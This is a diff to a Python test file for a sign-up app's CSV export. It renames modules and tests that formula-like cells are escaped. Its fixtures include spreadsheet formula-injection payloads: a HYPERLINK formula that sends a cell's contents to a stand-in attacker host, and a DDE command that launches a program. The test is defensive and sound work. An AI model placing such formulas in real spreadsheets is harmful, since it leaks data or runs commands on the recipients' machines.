@@ -11,7 +11,8 @@ from dataclasses import replace
 
 import pytest
 
-from mentorkorps.backend import sheet, store
+from mentorkorps.backend.db import operator_reads
+from mentorkorps.backend.signups import csv_export
 from tests.conftest import ROOT
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"se her")'
@@ -20,7 +21,7 @@ COMPUTED = ("=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "=cmd|' /C calc'!A0", HOSTI
 
 def desk(house, *arguments):
     return subprocess.run(
-        [sys.executable, "-m", "mentorkorps.cli", "desk", *map(str, arguments)],
+        [sys.executable, "-m", "mentorkorps", "desk", *map(str, arguments)],
         capture_output=True, cwd=ROOT, env=os.environ | house.environ,
     )  # fmt: skip
 
@@ -101,21 +102,21 @@ def test_an_unknown_form_is_told_with_those_that_exist(busy):
 
 @pytest.mark.parametrize("cell", COMPUTED)
 def test_a_cell_that_would_be_computed_is_text_and_can_be_read_back(cell):
-    assert sheet.safe(cell)[0] == "'"
-    assert cell == sheet.safe(cell)[1:]
+    assert csv_export.safe(cell)[0] == "'"
+    assert cell == csv_export.safe(cell)[1:]
 
 
 @pytest.mark.parametrize("cell", ["Karen", "12345678", "(+45) 1", "Ærø", "", "a=b", "10-12"])
 def test_other_cells_stay_as_they_are(cell):
-    assert cell == sheet.safe(cell)
+    assert cell == csv_export.safe(cell)
 
 
 def test_an_answer_to_a_question_that_is_gone_is_not_left_out(busy, real, tmp_path):
     form = real.forms["mentor"]
     shorter = replace(form, fields=tuple(one for one in form.fields if one.id != "phone"))
-    kept = store.each_sign_up(busy.settings)
+    kept = operator_reads.each_sign_up(busy.settings)
     file = io.BytesIO()
-    sheet.Sheet(shorter, real, "da").write(file, kept, sheet.Period())
+    csv_export.CsvExport(shorter, real, "da").write(file, kept, csv_export.Period())
 
     assert {"phone": "+45 12 34 56 78"} == json.loads(table(file.getvalue())[0]["Andre svar"])
 
